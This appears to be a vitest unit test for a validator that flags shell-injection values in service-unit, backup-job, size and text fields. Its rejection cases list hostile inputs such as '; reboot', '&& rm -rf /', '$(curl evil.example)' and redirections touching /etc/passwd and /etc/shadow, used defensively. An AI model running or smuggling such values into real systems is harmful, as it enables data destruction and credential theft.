import { describe, expect, it } from "vitest";
import { shellStringReason } from "./shell.ts";

describe("shellStringReason", () => {
  it.each([
    ["sshd.service; reboot", "unit"],
    ["$(curl evil.example)", "unit"],
    ["`id`", "backup_job"],
    ["clinic-data && rm -rf /", "backup_job"],
    ["2G | sh", "size"],
    ["a > /etc/passwd", "text"],
    ["read < /etc/shadow", "text"],
    ["two\nlines", "text"],
    ["systemctl restart sshd", "unit"],
    ["restic backup /srv", undefined],
    ["C:\\windows", "text"],
  ] as const)("flags %j (kind %s)", (value, kind) => {
    expect(shellStringReason(value, kind)).not.toBeNull();
  });

  it.each([
    ["sshd.service", "unit"],
    ["restic-backups-clinic-data.service", "unit"],
    ["clinic-data", "backup_job"],
    ["2G", "size"],
    ["The weekly test restore failed, so the backups may not be restorable.", "text"],
    ["expected", "generation"],
  ] as const)("accepts %j (kind %s)", (value, kind) => {
    expect(shellStringReason(value, kind)).toBeNull();
  });
});
